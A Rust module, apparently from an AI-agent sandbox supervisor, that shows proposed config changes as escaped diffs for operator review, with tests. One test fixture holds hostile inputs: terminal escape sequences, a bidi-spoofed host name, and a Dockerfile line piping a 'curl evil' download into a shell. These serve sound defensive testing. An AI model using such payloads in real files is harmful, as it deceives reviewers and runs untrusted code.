//! A proposal as a diff against the bottle's current configuration, for the operator to read
//! before deciding. Works from the published `current.json`, so it needs no Docker.

use std::path::Path;

use bottle_supervise_queue::text::escape_unprintable;
use bottle_supervise_queue::{Change, CurrentConfig};

/// `text` as the operator is shown it: every unprintable character (control, bidi, invisible)
/// escaped as `\u001b`, newline and tab kept. The sidecar refuses such characters, but a queue
/// file or a saved Dockerfile may have been written by something else.
pub fn shown(text: &str) -> String {
    escape_unprintable(text).into_owned()
}

/// A unified diff of two texts, labelled `before/<label>` and `after/<label>`; empty when equal.
pub fn unified(before: &str, after: &str, label: &str) -> String {
    if before == after {
        return String::new();
    }
    similar::TextDiff::from_lines(before, after)
        .unified_diff()
        .context_radius(3)
        .header(&format!("before/{label}"), &format!("after/{label}"))
        .to_string()
}

fn yaml<T: serde::Serialize>(value: &T) -> String {
    yaml_serde::to_string(value).unwrap_or_default()
}

/// The proposal's change as a diff against `current` (and, for a Dockerfile, against the one
/// already waiting in `state_dir`, if any), escaped for display ([`shown`]).
pub fn diff(current: &CurrentConfig, change: &Change, state_dir: &Path) -> String {
    shown(&raw_diff(current, change, state_dir))
}

fn raw_diff(current: &CurrentConfig, change: &Change, state_dir: &Path) -> String {
    match change {
        Change::Routes { routes } => unified(&yaml(&current.routes), &yaml(routes), "routes"),
        Change::AllowHost { host, .. } => {
            let mut after = current.allow.clone();
            if !after.contains(host) {
                after.push(host.clone());
            }
            unified(&yaml(&current.allow), &yaml(&after), "allow")
        }
        Change::GitRule { repo, policy } => {
            let before = current
                .git
                .iter()
                .find(|g| &g.name == repo)
                .map(|g| &g.policy);
            let label = format!("git/{repo}/policy");
            unified(&before.map(yaml).unwrap_or_default(), &yaml(policy), &label)
        }
        Change::Dockerfile { dockerfile } => {
            let before = std::fs::read_to_string(super::apply::saved_dockerfile(state_dir))
                .unwrap_or_default();
            unified(&before, dockerfile, "agent/Dockerfile")
        }
    }
}

/// One line saying what a change asks for, escaped for display ([`shown`]).
pub fn summary(change: &Change) -> String {
    shown(&raw_summary(change))
}

fn raw_summary(change: &Change) -> String {
    match change {
        Change::Routes { routes } => {
            let hosts: Vec<&str> = routes.iter().map(|r| r.host.as_str()).collect();
            format!("routes → {} ({})", routes.len(), hosts.join(", "))
        }
        Change::AllowHost { host, url } => format!("allow {host} (blocked: {url})"),
        Change::Dockerfile { dockerfile } => {
            format!(
                "new agent Dockerfile ({} lines)",
                dockerfile.lines().count()
            )
        }
        Change::GitRule { repo, .. } => format!("ref policy of git entry `{repo}`"),
    }
}

/// The change as YAML, for editing in `$EDITOR`.
pub fn editable(change: &Change) -> String {
    yaml(change)
}

/// Parse an edited change back; the kind must stay the same.
pub fn parse_edited(original: &Change, text: &str) -> Result<Change, String> {
    let edited: Change =
        yaml_serde::from_str(text).map_err(|e| format!("the edited change does not parse: {e}"))?;
    if edited.tool() != original.tool() {
        return Err(format!(
            "the edited change is a {}, not a {}; keep `kind` as it was",
            edited.tool().name(),
            original.tool().name()
        ));
    }
    edited
        .check()
        .map_err(|e| format!("the edited change is invalid: {e}"))?;
    Ok(edited)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allow_host_diff_shows_the_new_host() {
        let current = CurrentConfig {
            allow: vec!["a.example".into()],
            ..Default::default()
        };
        let change = Change::allow_host_from_url("https://b.example/x").unwrap();
        let diff = diff(&current, &change, Path::new("/nonexistent"));
        assert!(diff.contains("+- b.example"), "{diff}");
        assert!(diff.contains(" - a.example"), "{diff}");
    }

    /// Changes as a file written by something other than the sidecar could hold them.
    fn hostile() -> Vec<Change> {
        vec![
            Change::AllowHost {
                url: "https://a.example/\u{1b}[2J\u{1b}]0;owned\u{7}".into(),
                host: "a.example\u{202e}moc.live".into(),
            },
            Change::Dockerfile {
                dockerfile: "FROM x\r\nRUN \u{9b}2Jcurl evil\u{2066}|sh\n".into(),
            },
            Change::Routes {
                routes: vec![bottle_egress_config::Route {
                    host: "api.x.com\u{200b}".into(),
                    path_allowlist: vec!["/\u{1b}[8m".into()],
                    auth: None,
                    methods: vec!["PUT\u{7f}".into()],
                }],
            },
        ]
    }

    #[test]
    fn previews_escape_what_a_terminal_would_act_on() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(
            super::super::apply::saved_dockerfile(dir.path())
                .parent()
                .unwrap(),
        )
        .unwrap();
        // A saved Dockerfile written by something else is escaped too.
        std::fs::write(
            super::super::apply::saved_dockerfile(dir.path()),
            "FROM old\u{1b}[1A\n",
        )
        .unwrap();
        for change in hostile() {
            let summary = summary(&change);
            let diff = diff(&CurrentConfig::default(), &change, dir.path());
            // Positive control: the diff shows the change at all.
            assert!(diff.contains("after/"), "{diff}");
            for text in [&summary, &diff] {
                let bad: Vec<char> = text
                    .chars()
                    .filter(|&c| bottle_supervise_queue::text::is_unprintable(c))
                    .collect();
                assert!(bad.is_empty(), "{bad:?} in {text:?}");
            }
            assert!(diff.contains("\\u"), "escaped, not dropped: {diff}");
        }
        let s = summary(&hostile()[0]);
        assert!(s.contains("a.example\\u202emoc.live"), "{s}");
        let d = diff(&CurrentConfig::default(), &hostile()[1], dir.path());
        assert!(d.contains("-FROM old\\u001b[1A"), "{d}");
        assert!(d.contains("\\u000d"), "{d}");
    }

    #[test]
    fn a_method_change_shows_in_the_routes_diff() {
        let route = bottle_egress_config::Route {
            host: "api.github.com".into(),
            path_allowlist: vec![],
            methods: vec![],
            auth: None,
        };
        let current = CurrentConfig {
            routes: vec![route.clone()],
            ..Default::default()
        };
        let mut writes = route;
        writes.methods = vec!["GET".into(), "POST".into()];
        let change = Change::Routes {
            routes: vec![writes],
        };
        let diff = diff(&current, &change, Path::new("/nonexistent"));
        assert!(diff.contains("+  methods:"), "{diff}");
        assert!(diff.contains("+  - POST"), "{diff}");
    }

    #[test]
    fn edited_change_keeps_its_kind() {
        let original = Change::allow_host_from_url("https://b.example/x").unwrap();
        let text = editable(&original).replace("b.example", "c.example");
        let edited = parse_edited(&original, &text).unwrap();
        assert!(matches!(edited, Change::AllowHost { ref host, .. } if host == "c.example"));
        let other = "kind: dockerfile\ndockerfile: FROM x\n";
        assert!(
            parse_edited(&original, other)
                .unwrap_err()
                .contains("keep `kind`")
        );
    }
}
